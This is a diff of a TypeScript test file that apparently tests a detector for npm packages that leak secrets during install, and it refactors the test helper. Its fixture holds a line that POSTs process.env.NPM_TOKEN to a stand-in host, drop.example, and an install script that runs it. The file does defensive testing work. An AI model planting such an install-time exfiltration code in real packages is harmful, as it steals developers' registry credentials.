@@ -1,14 +1,12 @@
 import { describe, expect, it } from 'vitest'
-import { packageOf } from '../../../test/samples.ts'
-import { gatherFacts } from '../gather.ts'
+import { sentUncalled } from '../testing.ts'
 
 /** Line 2 sends a secret away; what follows is code that makes the engine of JavaScript call `go` while the file is loaded. */
 const HEAD = "'use strict'\nconst go = (...all) => { fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN }); return all[0] }\n"
 
 /** Lines from which a secret leaves while the package is installed. */
 function sentBy(code: string): number[] {
-  const { pkg } = packageOf({ says: '', ecosystem: 'npm', files: { 'package.json': '{"scripts":{"install":"node a.js"}}', 'a.js': HEAD + code } })
-  return gatherFacts(pkg).actions.filter(({ kind, trigger, from }) => kind === 'send' && trigger.kind !== 'call' && trigger.kind !== 'file' && from.includes('secret')).map(({ lines }) => lines[0])
+  return sentUncalled({ says: '', ecosystem: 'npm', files: { 'package.json': '{"scripts":{"install":"node a.js"}}', 'a.js': HEAD + code } })
 }
 
 const CASES: readonly [string, string][] = [
